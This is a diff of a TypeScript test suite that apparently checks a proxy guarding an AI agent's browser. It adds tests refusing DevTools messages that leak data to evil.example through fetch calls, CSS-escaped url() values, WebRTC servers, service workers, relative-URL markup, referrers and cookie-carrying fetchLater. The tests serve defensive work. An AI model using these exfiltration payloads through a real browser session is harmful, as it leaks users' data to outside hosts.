@@ -199,10 +199,12 @@ t.test('control: CDP traffic that loads an allowed site or nothing goes on', asy
     cdpLoads['Page.navigate']!('https://docs.example/guide?page=2'),
     cdpLoads['Target.createTarget']!('about:blank'),
     JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'class', value: 'wide: dark' })),
-    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: '/img/logo.png' })),
-    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: 'logo.png 1x, https://docs.example/logo@2x.png 2x' })),
+    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: 'https://docs.example/img/logo.png' })),
+    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: 'https://docs.example/logo.png 1x, https://docs.example/logo@2x.png 2x' })),
+    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'href', value: '#section-2' })),
+    JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'action', value: '' })),
     JSON.stringify(cdp('Runtime.evaluate', { expression: 'document.title', returnByValue: true })),
-    JSON.stringify(cdp('DOM.setAttributesAsText', { nodeId: 7, text: 'class="wide" src="/img/a.png" style="color: red; background: url(/bg.png)"' })),
+    JSON.stringify(cdp('DOM.setAttributesAsText', { nodeId: 7, text: 'class="wide" src="https://docs.example/img/a.png" style="color: red; background: url(https://docs.example/bg.png)"' })),
     cdpLoads['inside Target.sendMessageToTarget']!('https://docs.example/'),
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
@@ -352,8 +354,8 @@ t.test('control: code and markup naming the allowed site or no site go on (Playw
     JSON.stringify(cdp('Runtime.evaluate', { expression: "document.createElementNS('http://www.w3.org/2000/svg', 'svg'); location.protocol === 'https:'" })),
     JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: "(s) => document.evaluate(s, document).iterateNext()", arguments: [{ value: '//div[@id="main"]//button' }], executionContextId: 1 })),
     JSON.stringify(cdp('Runtime.evaluate', { expression: "fetch('https://docs.example/api/search?q=websocket').then((r) => r.json())", awaitPromise: true })),
-    JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<p class="note">Python 3.12 at 10:30, see <a href="/guide">the guide</a></p><img src="https://docs.example/logo.png">' })),
-    JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: 'body { color: red; background: url(/bg.png) } a:hover { color: blue }' })),
+    JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: '<p class="note">Python 3.12 at 10:30, see <a href="https://docs.example/guide">the guide</a> or <a href="#notes">the notes</a></p><img src="https://docs.example/logo.png">' })),
+    JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: 'body { color: red; background: url("https://docs.example/bg.png") } a:hover { color: blue; mask: url(#icon-eye) } i { background: url(data:image/png;base64,iVBORw0KGgo=) } p::before { content: "\\201C" }' })),
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
 });
@@ -379,6 +381,11 @@ t.test('an intercepted request answered with a redirect or page elsewhere, a con
     cdp('Storage.setCookies', { cookies: [{ name: 'd', value: '4111', domain: 'evil.example' }] }),
     cdp('DOMStorage.setDOMStorageItem', { storageId: { securityOrigin: 'https://evil.example', isLocalStorage: true }, key: 'd', value: '4111' }),
     cdp('Storage.setSharedStorageEntry', { ownerOrigin: 'https://evil.example', key: 'd', value: '4111', ignoreIfPresent: false }),
+    // Twenty-second pass: a push or sync event of data for another site's service worker.
+    cdp('ServiceWorker.deliverPushMessage', { origin: 'https://evil.example', registrationId: '1', data: '4111' }),
+    cdp('ServiceWorker.dispatchSyncEvent', { origin: 'https://evil.example', registrationId: '1', tag: 'd-4111', lastChance: false }),
+    // Hosts the browser polls for debugging targets: a name of data reaches their DNS.
+    cdp('Target.setRemoteLocations', { locations: [{ host: 'localhost', port: 9222 }, { host: '4111.evil.example', port: 9222 }] }),
     // Code run at the next load or a breakpoint, a value handed to the page's code, a style.
     cdp('Page.reload', { scriptToEvaluateOnLoad: "fetch('https://evil.example/?d=4111')" }),
     cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: "fetch('//evil.example/?d=4111'), false" }),
@@ -627,4 +634,183 @@ t.test('a load whose URL the code computes or makes relative to the page closes 
     const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code })));
     t.ok(!r.refused && r.urls.every((u) => new URL(u).hostname === 'docs.example'), `goes on: ${code} (${JSON.stringify(r)})`);
   }
+});
+
+// A URL relative to the page in markup, an attribute, a style or an answer made up for an
+// intercepted request (twenty-second pass): the twenty-first refused `fetch('/c?d=' + d)`, whose
+// host is the page's (a page a served link reached is the attacker's, which browsing takes by that
+// exact link only), but `<img src="/c?d=…">`, `DOM.setAttributeValue` of a `src`, a style's
+// `url(/c?d=…)`, `@import`, a refresh and a fulfilled page's links or `Location` went on. Each
+// closes the socket now. fast-check over relative spellings × thirty placements.
+const relativePlacements: Record<string, (rel: string) => string> = {
+  'setAttributeValue src': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'src', value: r })),
+  'setAttributeValue href': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'HREF', value: r })),
+  'setAttributeValue formaction': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'formaction', value: r })),
+  'setAttributeValue poster': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'poster', value: r })),
+  'setAttributeValue ping, second': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'ping', value: `https://docs.example/p ${r}` })),
+  'setAttributeValue srcset, second': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'srcset', value: `https://docs.example/a.png 1x, ${r} 2x` })),
+  'setAttributeValue xlink:href': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'xlink:href', value: r })),
+  'setAttributeValue style': (r) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'style', value: `background-image: url('${r}')` })),
+  'setAttributesAsText': (r) => JSON.stringify(cdp('DOM.setAttributesAsText', { nodeId: 7, text: `alt="chart" src="${r}"` })),
+  'setOuterHTML img': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<p>chart</p><img alt=x src="${r}">` })),
+  'setOuterHTML form action': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<form action="${r}"><input name=q></form>` })),
+  'setOuterHTML object data': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<object data="${r}"></object>` })),
+  'setOuterHTML base href': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<base href="${r}"><img src="https://docs.example/a.png">` })),
+  'setOuterHTML refresh': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<meta http-equiv="Refresh" content="0; URL='${r}'">` })),
+  'setOuterHTML svg image': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<svg><image href="${r}" width="1" height="1"/></svg>` })),
+  'setOuterHTML link imagesrcset': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<link rel="preload" as="image" imagesrcset="${r} 1x">` })),
+  'setOuterHTML style element': (r) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<style>p { background: url(${r}) }</style><p>x</p>` })),
+  'Page.setDocumentContent': (r) => JSON.stringify(cdp('Page.setDocumentContent', { frameId: 'F1', html: `<!doctype html><body><img src='${r}'></body>` })),
+  'CSS.setStyleSheetText url()': (r) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `body { color: red; background: url("${r}") }` })),
+  'CSS.setStyleSheetText @import': (r) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `@import '${r}';` })),
+  'CSS.setStyleSheetText image-set': (r) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `p { background: image-set("https://docs.example/a.png" 1x, "${r}" 2x) }` })),
+  'CSS.setStyleSheetText font-face': (r) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `@font-face { font-family: x; src: url(${r}) format("woff2") }` })),
+  'CSS.setStyleTexts': (r) => JSON.stringify(cdp('CSS.setStyleTexts', { edits: [{ styleSheetId: 's1', range: { startLine: 0, startColumn: 0, endLine: 0, endColumn: 1 }, text: `background: url(${r})` }] })),
+  'CSS.addRule': (r) => JSON.stringify(cdp('CSS.addRule', { styleSheetId: 's1', ruleText: `p { cursor: url("${r}"), auto }`, location: { startLine: 0, startColumn: 0, endLine: 0, endColumn: 0 } })),
+  'code writing a style': (r) => JSON.stringify(cdp('Runtime.evaluate', { expression: `document.body.style.background = "url(${r})"` })),
+  'Fetch.fulfillRequest page': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Content-Type', value: 'text/html' }], body: Buffer.from(`<html><img src="${r}"></html>`).toString('base64') })),
+  'Fetch.fulfillRequest Location': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 302, responseHeaders: [{ name: 'Location', value: r }] })),
+  'Fetch.fulfillRequest Link preload': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Link', value: `<https://docs.example/a.css>; rel=preload; as=style, <${r}>; rel=prefetch` }] })),
+  'Fetch.fulfillRequest Refresh': (r) => JSON.stringify(cdp('Fetch.fulfillRequest', { requestId: 'r1', responseCode: 200, responseHeaders: [{ name: 'Refresh', value: `0; url=${r}` }] })),
+  'BiDi provideResponse': (r) => JSON.stringify({ id: 1, method: 'network.provideResponse', params: { request: 'r1', statusCode: 200, body: { type: 'string', value: `<img src="${r}">` } } }),
+  'Playwright setContent': (r) => pw('frame@3c1f0d6a8f', 'setContent', { html: `<img src="${r}">`, waitUntil: 'load' }),
+  'Playwright fulfill style sheet': (r) => pw('route@77aa', 'fulfill', { status: 200, headers: [{ name: 'content-type', value: 'text/css' }], body: `body { background: url(${r}) }` }),
+};
+const relativeSpellings = ['/c?d=4111', 'c?d=4111', '?d=4111', './4111.png', '../c/4111', ' /c?d=4111', '/\tc?d=4111', '\\c?d=4111', '%2Fc%3Fd%3D4111'];
+t.test('twenty-second pass: a URL relative to the page in markup, an attribute, a style or a made-up answer is refused', async (t) => {
+  fc.assert(fc.property(fc.constantFrom(...Object.keys(relativePlacements)), fc.constantFrom(...relativeSpellings), (where, rel) => {
+    const r = cdpLoadsOf(relativePlacements[where]!(rel));
+    if (r.refused) return true;
+    t.fail(`${where} with ${JSON.stringify(rel)} was read as ${JSON.stringify(r)}`);
+    return false;
+  }), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }), examples: Object.keys(relativePlacements).map((k) => [k, relativeSpellings[0]!] as [string, string]) });
+  for (const where of ['setOuterHTML img', 'CSS.setStyleSheetText url()']) {
+    t.equal((await session([relativePlacements[where]!('/c?d=4111')], [], 'browser.example')).code, 1008, `${where}: through the socket`);
+  }
+  t.notOk(ranText().includes('/c?d=4111'), 'nothing reached the browser');
+  // Controls: the allowed site written out, a fragment, an empty value, a data: image.
+  for (const where of Object.keys(relativePlacements)) {
+    for (const ok of ['https://docs.example/c/a.png', '#part-2']) {
+      const r = cdpLoadsOf(relativePlacements[where]!(ok));
+      t.ok(!r.refused && r.urls.every((u) => new URL(u).hostname === 'docs.example'), `goes on: ${where} with ${ok} (${JSON.stringify(r)})`);
+    }
+  }
+});
+
+// CSS's escapes (twenty-second pass): `url(\68ttps\3a\2f\2f evil\2e example\2f c?d=…)`,
+// `u\72l(…)`, an escaped line break inside a string, named no URL to the reader, and the browser
+// loaded another site from a style sheet, a style attribute or a `<style>` element. fast-check over
+// how each character of the URL is written (itself, `\HH ` with the blank the escape takes,
+// six digits, `\c` for a character that is no hex digit, an escaped line break before it in a
+// string) × the keyword escaped or not × nine placements.
+const cssPlacements: Record<string, (value: string, quoted: boolean, fn: string) => string> = {
+  'style sheet url()': (v, q, fn) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `body { background: ${fn}(${q ? `"${v}"` : v}) }` })),
+  'style sheet @import': (v) => JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: `@import "${v}";` })),
+  'style attribute': (v, q, fn) => JSON.stringify(cdp('DOM.setAttributeValue', { nodeId: 7, name: 'style', value: `background: ${fn}(${q ? `'${v}'` : v})` })),
+  'style element': (v, q, fn) => JSON.stringify(cdp('DOM.setOuterHTML', { nodeId: 3, outerHTML: `<style>p { background: ${fn}(${q ? `"${v}"` : v}) }</style>` })),
+  'setStyleTexts': (v, q, fn) => JSON.stringify(cdp('CSS.setStyleTexts', { edits: [{ styleSheetId: 's1', range: { startLine: 0, startColumn: 0, endLine: 0, endColumn: 1 }, text: `background: ${fn}(${q ? `"${v}"` : v})` }] })),
+  'addRule': (v, q, fn) => JSON.stringify(cdp('CSS.addRule', { styleSheetId: 's1', ruleText: `p { background: ${fn}(${q ? `"${v}"` : v}) }`, location: { startLine: 0, startColumn: 0, endLine: 0, endColumn: 0 } })),
+  'a style text node': (v, q, fn) => JSON.stringify(cdp('DOM.setNodeValue', { nodeId: 9, value: `p { background: ${fn}(${q ? `"${v}"` : v}) }` })),
+  'Playwright addStyleTag': (v, q, fn) => pw('frame@3c1f0d6a8f', 'addStyleTag', { content: `p { background: ${fn}(${q ? `"${v}"` : v}) }` }),
+  'code setting cssText': (v, q, fn) => JSON.stringify(cdp('Runtime.evaluate', { expression: `document.body.style.cssText = ${JSON.stringify(`background: ${fn}(${q ? `'${v}'` : v})`)}` })),
+};
+t.test('twenty-second pass: a URL in a style written with CSS escapes is read as that URL, in any spelling and placement', async (t) => {
+  const url = 'https://evil.example/c?d=4111';
+  fc.assert(fc.property(
+    fc.array(fc.constantFrom('plain', 'hex', 'six', 'identity', 'break'), { minLength: url.length, maxLength: url.length }),
+    fc.constantFrom('url', 'u\\72l', 'U\\52L', '\\75 rl'),
+    fc.boolean(),
+    fc.constantFrom(...Object.keys(cssPlacements)),
+    (how, fn, quoted, where) => {
+      const asString = quoted || where === 'style sheet @import';
+      const v = [...url].map((c, i) => {
+        const code = c.charCodeAt(0).toString(16);
+        const kind = how[i]!;
+        if (kind === 'hex') return `\\${code} `;
+        if (kind === 'six') return `\\${code.padStart(6, '0')}`;
+        if (kind === 'identity' && !/[0-9a-f]/i.test(c)) return `\\${c}`;
+        if (kind === 'break' && asString) return `\\\n${c}`;
+        return c;
+      }).join('');
+      const r = cdpLoadsOf(cssPlacements[where]!(v, quoted, fn));
+      if (r.refused || r.urls.some((u) => new URL(u).hostname === 'evil.example')) return true;
+      t.fail(`${where}: ${fn}(${v}) was read as ${JSON.stringify(r)}`);
+      return false;
+    },
+  ), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) });
+  const escaped = cssPlacements['style sheet url()']!('\\68ttps\\3a\\2f\\2f evil\\2e example\\2f c?d=4111', true, 'u\\72l');
+  t.equal((await session([escaped], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes('evil\\\\2e'), 'nothing reached the browser');
+  // Control: escapes that name no URL (a quotation mark as content, an escaped class name).
+  t.same(cdpLoadsOf(JSON.stringify(cdp('CSS.setStyleSheetText', { styleSheetId: 's1', text: 'q::before { content: "\\201C" } .md\\:flex { display: flex }' }))), { urls: [] }, 'escapes naming no URL load nothing');
+});
+
+// Code the reader missed (twenty-second pass): a WebRTC connection (`iceServers` naming a STUN or
+// TURN server, whose username and name carry data over UDP; a remote candidate at any address),
+// loads through sinks it did not know (`fetchLater`, a service worker, `ping`, `imageSrcset`,
+// `background`, a property named in brackets) and markup a script writes with a URL relative to
+// the page (`innerHTML`, `insertAdjacentHTML`, `document.write`, a template's substitution in a
+// URL attribute, a literal ending inside one). Each was relayed; each now closes the socket.
+t.test('twenty-second pass: WebRTC, loads through other sinks and markup a script writes with a relative URL close the socket', async (t) => {
+  const codes = [
+    "new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478' }] }).createDataChannel('d')",
+    "new RTCPeerConnection({ iceServers: [{ urls: ['turn:4111.evil.example?transport=tcp'], username: '4111', credential: 'x' }] })",
+    'const pc = new webkitRTCPeerConnection({ iceServers: servers })',
+    "pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 203.0.113.7 4111 typ host', sdpMid: '0' })",
+    "pc.setRemoteDescription({ type: 'offer', sdp: sdp + 'a=candidate:1 1 udp 1 203.0.113.7 4111 typ host' })",
+    "fetchLater('/c?d=' + document.cookie)",
+    "navigator.serviceWorker.register('/sw.js?d=4111')",
+    "a.ping = '/c?d=4111'; a.click()",
+    "link.imageSrcset = '/c?d=4111 1x'",
+    "document.body.background = '/c?d=4111'",
+    "img['src'] = '/c?d=' + d",
+    "window['location'] = '/c?d=4111'",
+    "document.body.insertAdjacentHTML('beforeend', '<img src=/c?d=4111>')",
+    "document.head.innerHTML += '<link rel=prefetch href=/c?d=4111>'",
+    'document.body.innerHTML = `<img src="/c?d=${d}">`',
+    "document.write('<form action=\"?d=4111\"></form>')",
+    "el.innerHTML = '<img src=\"' + u + '\">'",
+    "el.outerHTML = '<div style=\"background: url(/c?d=4111)\"></div>'",
+  ];
+  for (const code of codes) t.ok(cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code }))).refused, `refused: ${code}`);
+  t.equal((await session([JSON.stringify(cdp('Runtime.evaluate', { expression: codes[1]! }))], [], 'browser.example')).code, 1008, 'WebRTC through the socket');
+  t.notOk(ranText().includes('turn:4111'), 'nothing reached the browser');
+  // Controls: markup of the allowed site, a fragment, text; a state object with a `turns` count;
+  // a service worker of the allowed site written out.
+  for (const code of [
+    "el.innerHTML = '<a href=\"https://docs.example/guide\">guide</a> <a href=\"#top\">top</a>'",
+    "el.innerHTML = '<p class=\"note\">' + text + '</p>'",
+    'el.innerHTML = `<a href="https://docs.example/items/${id}">item</a>`',
+    'const game = { turns: 3, score: 0 }; game.turns += 1',
+    "navigator.serviceWorker.register('https://docs.example/sw.js')",
+    "if (a < b && c > d) x = '<b>bold</b>'",
+  ]) {
+    const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code })));
+    t.ok(!r.refused && r.urls.every((u) => new URL(u).hostname === 'docs.example'), `goes on: ${code} (${JSON.stringify(r)})`);
+  }
+});
+
+// What a navigation sends of the agent's own (twenty-second pass): a referrer (`Page.navigate`'s
+// `referrer` with `referrerPolicy: 'unsafeUrl'` is sent whole, Playwright's `goto({referer})` as the
+// header itself) reaches the host navigated to, a served link's (the attacker's), which browsing
+// forwards bare for this reason; a locale override (`navigator.language`, what pages send on)
+// of no language tag's form. Each was relayed.
+t.test('twenty-second pass: a navigation with a referrer of the agent\'s, and a locale that is no language tag, close the socket', async (t) => {
+  for (const msg of [
+    JSON.stringify(cdp('Page.navigate', { url: 'https://docs.example/guide', referrer: 'https://docs.example/?d=4111111111111111', referrerPolicy: 'unsafeUrl' })),
+    JSON.stringify(cdp('Page.navigate', { url: 'https://docs.example/guide', referrer: 'https://4111.example/' })),
+    JSON.stringify(cdp('Target.sendMessageToTarget', { sessionId: 'S1', message: JSON.stringify(cdp('Page.navigate', { url: 'https://docs.example/', referrer: 'https://x.example/4111' }, 9)) })),
+    pw('frame@3c1f0d6a8f', 'goto', { url: 'https://docs.example/guide', referer: 'https://x.example/4111', waitUntil: 'load' }),
+    JSON.stringify(cdp('Emulation.setLocaleOverride', { locale: 'en-x-4111' })),
+    JSON.stringify({ id: 1, method: 'emulation.setLocaleOverride', params: { locale: 'de-DE-u-nu-4111' } }),
+  ]) t.equal((await session([msg], [], 'browser.example')).code, 1008, msg.slice(0, 100));
+  t.notOk(ranText().includes('4111'), 'the browser was told none of them');
+  const msgs = [
+    JSON.stringify(cdp('Page.navigate', { url: 'https://docs.example/guide', transitionType: 'link' })),
+    JSON.stringify(cdp('Page.navigate', { url: 'https://docs.example/guide', referrer: '' })),
+    JSON.stringify(cdp('Emulation.setLocaleOverride', { locale: 'de-DE' })),
+    JSON.stringify(cdp('Emulation.setLocaleOverride', {})),
+    JSON.stringify({ id: 1, method: 'emulation.setLocaleOverride', params: { locale: 'zh-Hant-TW' } }),
+  ];
+  t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'a navigation without one, and a locale, go on');
 });
